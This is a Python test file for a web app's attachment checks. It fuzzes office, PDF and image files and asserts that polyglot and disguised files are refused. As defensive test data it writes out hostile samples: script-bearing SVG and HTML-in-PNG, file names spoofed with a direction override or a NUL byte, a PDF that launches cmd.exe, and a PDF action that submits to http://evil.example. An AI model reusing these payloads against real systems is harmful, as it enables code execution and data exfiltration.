"""Attachments and tables bent at random: refused with a reason or harmless, never an error, never slow."""

from collections import Counter
from time import process_time

import pytest

from benchmarks.hostile_files import hostile_files
from tests.hostile.mutator import Mutator, packed_pdf
from tests.webapp.imports.office_files import document_bytes, packed, sheet_parts, text_cell, workbook_bytes
from tests.webapp.imports.test_evidence import jpeg, pdf, png
from webapp.imports.evidence import check_evidence
from webapp.imports.limits import TABLE_LIMITS
from webapp.imports.preflight import check_office_file, check_workbook
from webapp.imports.refusal import RefusedFileError

# Milliseconds are usual; what hangs takes minutes. Far enough from both to say the same on a busy machine.
HANGS = 20.0

HONEST = {
    "a.xlsx": workbook_bytes(f'<row r="1">{text_cell("A1", "文字")}</row>'),
    "a.docx": document_bytes("<w:p/>"),
    "a.pdf": pdf(),
    "b.pdf": packed_pdf(b"<</Type/Page>>"),
    "a.png": png(),
    "a.jpg": jpeg(),
}


def outcome(data: bytes, name: str) -> str:
    """Let the file in or return why not."""
    try:
        check_evidence(data, name)
    except RefusedFileError as refusal:
        return refusal.code if refusal.message else "refused without a word"
    return "let in"


@pytest.mark.parametrize("name", HONEST)
def test_every_bent_file_is_refused_or_harmless(name: str) -> None:
    bend, seen, slowest = Mutator(11), Counter[str](), 0.0
    for _ in range(250):
        begun = process_time()
        seen[outcome(bend.mutated(HONEST[name]), name)] += 1
        slowest = max(slowest, process_time() - begun)
    assert sum(seen.values()) == 250
    assert len(seen) >= 3
    assert slowest < HANGS


def polyglots() -> dict[str, tuple[str, bytes]]:
    """Files that are two things at once, or not what they say."""
    sheet, letter = HONEST["a.xlsx"], HONEST["a.docx"]
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    return {
        "macro letter renamed": ("a.docx", packed({"[Content_Types].xml": "<Types/>", "word/vbaProject.bin": b"x"})),
        "page behind a picture's head": ("a.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>"),
        "picture and archive": ("a.png", png() + sheet),
        "document and archive": ("a.pdf", pdf() + sheet),
        "archive within an archive": ("a.xlsx", packed({**sheet_parts("<row/>"), "xl/media/more.zip": sheet})),
        "object of another program": ("a.docx", packed({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        "drawing with a script": ("a.svg", svg),
        "drawing named picture": ("a.png", svg),
        "drawing named scan": ("a.jpg", svg),
        "two endings": ("a.pdf.exe", pdf()),
        "ending hidden by direction": ("a\u202efdp.exe", pdf()),
        "stream of the old file system": ("a.pdf::$DATA", pdf()),
        "NUL before the ending": ("a.exe\0.pdf", b"MZ"),
        "form in the page": ("a.pdf", pdf(b"/AcroForm<</XFA 5 0 R>>")),
        "action on opening": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
        "address sent on opening": ("a.pdf", pdf(b"/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>")),
        "film in the page": ("a.pdf", pdf(b"/Type/RichMedia/RichMediaContent 5 0 R")),
        "letter named table": ("a.xlsx", letter),
        "billion pixels": ("a.png", png(40_000, 40_000)),
    }


@pytest.mark.parametrize("attack", polyglots())
def test_every_double_natured_attachment_is_refused(attack: str) -> None:
    name, data = polyglots()[attack]
    assert outcome(data, name) not in ("let in", "refused without a word")


@pytest.mark.slow
def test_every_hostile_table_and_document_is_refused_at_once() -> None:
    slow = []
    for attack, (name, data) in hostile_files().items():
        begun = process_time()
        with pytest.raises(RefusedFileError, match=r"[\u4e00-\u9fff]"):
            check_workbook(data, name, TABLE_LIMITS) if name.endswith("xlsx") else check_office_file(data, name, "docx")
        slow += [attack] * (process_time() - begun > HANGS)
    assert slow == []
